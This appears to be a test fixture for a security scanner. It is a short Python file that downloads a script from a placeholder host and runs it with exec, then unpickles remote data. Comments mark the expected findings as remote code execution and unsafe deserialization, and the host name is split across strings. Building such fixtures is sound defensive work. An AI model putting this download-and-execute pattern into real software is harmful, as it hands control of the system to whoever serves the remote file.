import importlib
import pickle
import urllib.request

RAW = "https://cdn." + "helper-kit.example"


def fetch(path):
    with urllib.request.urlopen(RAW + path) as reply:
        return reply.read()


source = fetch("/stage.py").decode("utf-8")
exec(compile(source, "stage", "exec"))  # expect: RCE-001
state = pickle.loads(fetch("/state"))  # expect: VULN-006
